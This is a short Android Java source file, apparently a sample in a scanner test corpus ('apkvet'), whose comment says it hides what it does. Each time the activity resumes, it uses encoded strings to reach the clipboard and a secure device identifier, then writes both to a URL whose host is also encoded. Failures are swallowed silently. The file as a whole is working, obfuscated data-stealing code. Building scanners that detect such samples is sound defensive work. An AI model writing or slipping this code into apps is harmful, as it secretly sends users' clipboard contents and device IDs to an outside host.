package org.apkvet.samples.hidden.base64;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d("CF8QUQlcGFMP"));
            Object clip = Class.forName(D.d("Cl0dUwRaHQ8IXBdVDl0NDyhfEFEJXBhTD34YTwpUHFM=")).getMethod(D.d("DFYNcRlaFEAZSjpNAkM=")).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d("Cl0dUwRaHX4CVw=="));
            URLConnection connection = new URL(D.d("A0cNURgJVg4IXBVNDlANDwNaHUUOXVdEE1IUUQdWVkIHWgk=")).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
